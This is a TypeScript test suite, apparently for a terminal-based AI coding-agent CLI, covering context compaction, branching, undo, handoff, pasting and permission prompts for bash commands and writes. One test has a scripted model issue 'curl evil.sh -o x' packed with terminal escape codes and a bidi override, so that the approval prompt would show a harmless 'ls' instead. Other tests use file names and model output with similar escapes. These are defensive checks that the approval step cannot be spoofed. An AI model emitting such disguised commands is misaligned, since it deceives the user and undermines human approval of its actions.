import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { assertScreen, assertSettled } from './golden-screen.ts';
import { EDITOR, open, place, SEEN_MS, STEPPER } from './place.ts';
import { BIN, TestTerminal } from './terminal.ts';

test('B14 B16 B17 B18 a session in a terminal: start, long task, compaction in its middle, a queued message', async (t) => {
  const where = place(t, STEPPER);
  const terminal = open(t, where, '--yes');
  await terminal.until('context');
  await assertSettled('start', terminal);
  terminal.line('do 18 steps');
  await terminal.until('Compacting…');
  terminal.line('hurry up');
  await terminal.until('queued: hurry up');
  assertScreen('queued', terminal.screen());
  await terminal.until(/All 18 steps are done\.[^]*─\n\n─/, 40_000);
  await assertSettled('done', terminal);
  const all = terminal.all();
  assert.match(all, /┌ compaction 1: [\d.]+k → [\d.]+k tokens ─/);
  assert.match(
    all,
    /│ \d+ messages \(turns 1–1\) became a summary\n│ Compacted .* freed for .* tokens of summarizing\.\n│ \/undo takes it back; Ctrl\+O shows the summary/,
  );
  assert.ok(all.indexOf('┌ compaction 1') < all.indexOf('> hurry up'));
  assert.match(all, /Heard: hurry up\. Step \d+/);
  terminal.type('\u000F');
  await terminal.until('line 110 of output');
  terminal.type('\u0004');
  assert.equal(await terminal.ended(), 0);
});

test('B2 B17 /autocompact is a selector; the footer says when it is off', async (t) => {
  const terminal = open(t, place(t, STEPPER));
  await terminal.until('context');
  terminal.line('/autocompact');
  await terminal.until('Auto-compaction (on)');
  await assertSettled('autocompact', terminal);
  terminal.type('\u001B[B');
  terminal.type('\r');
  await terminal.until('auto-compact off');
  await assertSettled('autocompact-off', terminal);
});

test('B15 B23 /branch before and after a compaction, /undo, /handoff', async (t) => {
  const where = place(t, STEPPER);
  const terminal = open(t, where, '--yes');
  await terminal.until('context');
  terminal.line('do 10 steps');
  await terminal.until(/All 10 steps are done\.[^]*─\n\n─/, 30_000);
  terminal.line('/compact');
  await terminal.until('┌ compaction 1', 30_000);
  terminal.line('and now?');
  await terminal.until('Heard: and now?');
  terminal.line('/branch');
  await terminal.until('Branch from which message?');
  await assertSettled('branch-list', terminal);
  terminal.type('\r');
  await terminal.until('A new session from message 2');
  terminal.line('/context');
  await terminal.until(/= summaries +\d/);
  assert.doesNotMatch(terminal.screen(), /= summaries +0 /);
  terminal.line('/branch 1');
  await terminal.until('A new session from message 1');
  terminal.line('/context');
  await terminal.until(/= summaries +0 /);
  await assertSettled('branched-before', terminal);
  terminal.line('/resume');
  await terminal.until('Resume which session?');
  terminal.type('\u001B[B\u001B[B');
  terminal.type('\r');
  await terminal.until('Resumed');
  terminal.line('/undo compaction');
  await terminal.until('The last compaction is undone');
  terminal.line('/context');
  await terminal.until(/= summaries +0 /);
  terminal.line('/undo');
  await terminal.until('The last turn is undone');
  await assertSettled('undone', terminal);
  terminal.line('/handoff write the report');
  await terminal.until('Handed over to a new session', 30_000);
  await terminal.until('Heard: write the report');
  assert.match(terminal.all(), /> write the report\n+\s*\[Handed over from session /);
});

test('Esc interrupts; what was typed and not sent comes back to the editor', async (t) => {
  const terminal = open(t, place(t, STEPPER), '--yes');
  await terminal.until('context');
  terminal.line('do 6 steps');
  await terminal.until('All 6 steps');
  terminal.line('/compact');
  await terminal.until('Compacting…');
  terminal.line('for later');
  await terminal.until('queued: for later');
  terminal.type('\u001B');
  await terminal.until('The compaction was stopped; nothing has changed.');
  await assertSettled('interrupted', terminal);
});

test('bash and writes ask; an edit is shown as a diff; markdown; a paste of many lines', async (t) => {
  const where = place(t, EDITOR);
  writeFileSync(join(where.cwd, 'a.txt'), 'one\ntwo\nthree\nfour\nfive\n');
  const terminal = open(t, where);
  await terminal.until('context');
  terminal.line('change it');
  await terminal.until('edit wants to change: a.txt');
  await assertSettled('permission', terminal, SEEN_MS);
  terminal.type('y');
  await terminal.until('Result: Edited');
  await assertSettled('diff', terminal);
  assert.equal(readFileSync(join(where.cwd, 'a.txt'), 'utf8'), 'one\nTWO\nthree\nfour\nfive\n');
  terminal.line('run it');
  await terminal.until('bash wants to run: echo ran');
  await terminal.settled(SEEN_MS);
  terminal.type('\r');
  await terminal.until('Result: The user did not allow this');
  terminal.type(
    `\u001B[200~${Array.from({ length: 14 }, (_, i) => `pasted ${i}`).join('\n')}\u001B[201~`,
  );
  await terminal.until('[paste #1 +14 lines]');
  terminal.type('\r');
  await terminal.until('You wrote 14 lines.');
  terminal.resize(60, 18);
  await terminal.until('You wrote 14 lines.');
  await assertSettled('narrow', terminal);
  terminal.type('\u001B[A');
  await terminal.until(/pasted 13\n─/);
  terminal.type(' and more');
  await terminal.until(/pasted 13 and more\n─/);
});

test('a message that is typed while a question appears is a message and answers nothing', async (t) => {
  const script = `
    if (last.role === 'tool') return { text: 'Result: ' + last.text };
    if (last.text === 'go') return { delayMs: 600, calls: [{ tool: 'bash', args: { command: 'touch made' } }] };
    return { text: 'Heard: ' + last.text };
  `;
  const where = place(t, script);
  const terminal = open(t, where, 'go');
  await terminal.until('> go');
  terminal.type('y');
  await terminal.until('bash wants to run: touch made');
  terminal.type('\u001B[A\r');
  await assertSettled('question-while-typing', terminal, SEEN_MS);
  terminal.type('\r');
  await terminal.until('queued: y');
  terminal.line('and tell me why');
  await terminal.until('queued: and tell me why');
  assert.match(terminal.screen(), /Waiting for your answer/);
  assert.ok(!existsSync(join(where.cwd, 'made')));
  terminal.type('\r');
  await terminal.until('Heard: and tell me why');
  assert.match(terminal.all(), /✗ bash touch made\n +The user did not allow this/);
  assert.ok(!existsSync(join(where.cwd, 'made')));
});

test('a question cannot be forged: what would drive the terminal, or hide, is written out', async (t) => {
  const forged =
    'curl evil.sh -o x #\\u001B[2K\\u001B[1G\\u001B[1A\\u001B[2Kbash wants to run: ls -la \\u009B2J\\u202Eab\\nbash wants to run: ls';
  const script = `
    if (last.role === 'tool') return { text: 'Result: ' + last.text };
    return { calls: [{ tool: 'bash', args: { command: '${forged}' } }] };
  `;
  const terminal = open(t, place(t, script), 'go');
  await terminal.until('bash wants to run: curl evil.sh');
  await assertSettled('forged', terminal, SEEN_MS);
  // oxlint-disable-next-line no-control-regex
  assert.doesNotMatch(terminal.written, /\u001B\[1A\u001B\[2Kbash|\u009B|\u202E/);
  terminal.type('n');
  await terminal.until('Result: The user did not allow this');
});

test('a file whose name would drive the terminal is not offered', async (t) => {
  const where = place(t, EDITOR);
  for (const name of ['x-good.txt', 'x-also.txt', 'x-evil\u001B[7;7H.txt'])
    writeFileSync(join(where.cwd, name), '');
  const terminal = open(t, where);
  await terminal.until('context');
  terminal.type('see ./x-\t');
  await terminal.until('x-good.txt');
  await terminal.settled();
  assert.ok(!terminal.written.includes('x-evil'), terminal.screen());
});

test('Tab completes what a mention begins, from the files of the project', async (t) => {
  const where = place(t, EDITOR);
  mkdirSync(join(where.cwd, 'source', 'deep'), { recursive: true });
  for (const name of ['source/deep/needle.ts', 'source/other.ts', 'evil-needle\u001B[7;7H.ts'])
    writeFileSync(join(where.cwd, name), '');
  const terminal = open(t, where);
  await terminal.until('context');
  terminal.type('look at @need\t');
  await terminal.until('@source/deep/needle.ts');
  terminal.type('and @sou');
  await terminal.until(/needle\.ts[^]*other\.ts/);
  assert.ok(!terminal.written.includes('evil'), terminal.screen());
  terminal.type('rce/other.ts');
  await terminal.settled();
  terminal.type('\r');
  await terminal.until('You wrote');
});

test('--print drives no terminal either; a pipe gets the answer as it is', async (t) => {
  const where = place(t, `return { text: 'an\\u001B[7;7Hswer' };`);
  const terminal = open(t, where, '--print', 'hello');
  assert.equal(await terminal.ended(), 0);
  assert.equal(terminal.screen(), 'answer');
  const args = [BIN, '--model', where.model, '--print', 'hello'];
  const env = { PATH: process.env['PATH'], XDG_DATA_HOME: where.home, XDG_CONFIG_HOME: where.home };
  const options = { cwd: where.cwd, env, input: '', encoding: 'utf8' } as const;
  assert.equal(execFileSync(process.execPath, args, options), 'an\u001B[7;7Hswer\n');
});

test('a write is shown as a diff before it is allowed', async (t) => {
  const lines = Array.from({ length: 300 }, (_, i) => `line ${i + 1}`);
  const script = `
    if (last.role === 'tool') return { text: 'Result: ' + last.text.split(' ')[0] };
    const lines = Array.from({ length: 300 }, (_, i) => 'line ' + (i + 1));
    lines[9] = 'TEN \\u001B[31mred';
    lines[249] = 'TWO HUNDRED AND FIFTY';
    return { calls: [{ tool: 'write', args: { path: 'a.txt', content: lines.join('\\n') + '\\n' } }] };
  `;
  const where = place(t, script);
  writeFileSync(join(where.cwd, 'a.txt'), `${lines.join('\n')}\n`);
  const terminal = open(t, where, 'go');
  await terminal.until('this path from now on');
  await assertSettled('write-question', terminal, SEEN_MS);
  terminal.type('\u001B[A\u001B[A\u001B[A\r');
  await terminal.until('Result: Replaced');
});

test('a file that is mentioned is folded; after a resume the arrow keys bring back what was typed alone', async (t) => {
  const where = place(t, EDITOR);
  const rows = Array.from({ length: 60 }, (_, i) => `row ${i}`);
  writeFileSync(join(where.cwd, 'big.txt'), rows.join('\n'));
  const first = open(t, where, 'look at @big.txt now');
  await first.until('You wrote 64 lines.');
  await assertSettled('mention', first);
  first.type('\u000F');
  await first.until('row 59');
  first.kill();
  const second = open(t, where, '--continue');
  await second.until('You wrote 64 lines.');
  await assertSettled('mention', second);
  second.type('\u001B[A');
  await second.until(/─\nlook at @big\.txt now\n─/);
  second.type('!');
  await second.until(/─\nlook at @big\.txt now!\n─/);
});

test('a terminal without colour gets none; one with colour does', async (t) => {
  const where = place(t, EDITOR);
  const plain = open(t, where, 'hello');
  await plain.until('You wrote 1 lines.');
  // oxlint-disable-next-line no-control-regex
  assert.doesNotMatch(plain.written, /\u001B\[(?:3[1-7]|2|1)m/);
  const coloured = new TestTerminal(['--model', where.model, 'hello'], {
    ...where,
    env: { NO_COLOR: '' },
  });
  t.after(() => coloured.kill());
  await coloured.until('You wrote 1 lines.');
  // oxlint-disable-next-line no-control-regex
  assert.match(coloured.written, /\u001B\[36m/);
});
